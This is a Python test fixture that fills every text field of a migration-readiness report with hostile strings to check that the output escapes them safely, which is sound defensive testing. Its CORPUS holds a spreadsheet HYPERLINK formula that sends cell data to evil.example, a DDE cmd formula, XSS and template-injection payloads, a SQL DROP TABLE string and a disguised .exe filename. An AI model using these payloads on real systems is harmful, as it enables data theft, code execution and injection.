"""A report whose every free text is hostile, and the texts."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, timedelta

from mappings.model import (
    Assessment,
    ContainerSurvey,
    Finding,
    Gap,
    Inventory,
    Resource,
    Subscription,
    TargetChoice,
    Verdict,
)
from mappings.objects import EvidenceRow, Tally
from mappings.plan import CopyShard, CreateResourceGroup, CreateStorageAccount, LeftOut, Plan
from mappings.readiness import Report, ReportHead, build_report
from mappings.runs import ObjectNote, RunKind, RunRecord, ShardRecord
from mappings.states import Change, Outcome, RunState, ShardState, VerdictKind
from tests.reports.sample import NOW

CORPUS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "{=1+1}",
    "\t=1+1",
    "https://evil.example/",
    "mailto:a@evil.example",
    "internal:Summary!A1",
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "{{7*7}}",
    "{% for x in y %}",
    "${7*7}",
    "<!-- -->",
    "&lt;script&gt;",
    "]]><svg onload=alert(1)>",
    "photo\u202egnp.exe",
    "a\u200bb\u2066c\ufeffd",
    "nul\x00bell\x07esc\x1b[31m",
    "lone \ud800 surrogate",
    '&C&"Arial"&24 page &P',
    "'; DROP TABLE run; --",
    "a'!b:[c]*?/\\d",
)


def report(text: str = "plain", *, marking: str | None = None, source: str = "") -> Report:
    """A report with `text` in every place that takes text from a customer or a service.

    Args:
        marking: None takes `text`.
        source: of the verdicts; "" takes `text`.
    """
    assessment = _assessment(text, source or text)
    shard = CopyShard(text, text, text, "", None, 1, 1, 0)
    plan = Plan(
        "abc",
        "abc",
        NOW,
        (
            CreateResourceGroup(text, text, source_id=f"/{text}"),
            CreateStorageAccount(text, text, text, text, text, assessment.inventory.resources[0].id, text),
            shard,
        ),
        (LeftOut(text, text, text),),
        (text,),
    )
    row = EvidenceRow(
        text, text, text, 1, text, NOW, Outcome.FAILED, Change.NEW, None, None, text, reason=text, request_id=text
    )
    notes = [ObjectNote(text, text, row), ObjectNote(text, text, replace(row, change=Change.DELETED))]
    tally = Tally(listed=1, failed=1, deleted=1)
    run = RunRecord(text, RunKind.RESYNC, text, RunState.PARTIAL, NOW, NOW + timedelta(hours=1), tally, 4, text)
    return build_report(
        settings=ReportHead(
            text, text, text if marking is None else marking, text, text, (text,), text, text, text, shared_keys=(text,)
        ),
        assessment=assessment,
        plan=plan,
        runs=[run],
        notes=notes,
        shards=[ShardRecord(text, shard, ShardState.DONE, 1, tally)],
        made_at=NOW,
        version="0.1.0",
    )


def _assessment(text: str, source: str) -> Assessment:
    checked = date(2026, 1, 1)
    pairs = []
    for number, kind in enumerate(VerdictKind):
        resource = Resource(
            f"/{number}/{text}", text, text, text, subscription_id="sub", resource_group=text, sku={"name": text}
        )
        finding = Finding(text, kind, text, source, checked, text)
        target = TargetChoice(text, text, text)
        verdict = Verdict(resource.id, text, text, kind, text, text, source, checked, text, target, findings=(finding,))
        pairs.append((resource, verdict))
    inventory = Inventory(
        text,
        text,
        text,
        NOW,
        tuple(resource for resource, _ in pairs),
        (Gap(text, text, text, text, text),),
        (),
        (Subscription("sub", text, text),),
        (),
        (ContainerSurvey(text, text, 1, 1, by_type={text: 1}, by_tier={text: 1}),),
    )
    return Assessment(inventory, tuple(verdict for _, verdict in pairs), checked)
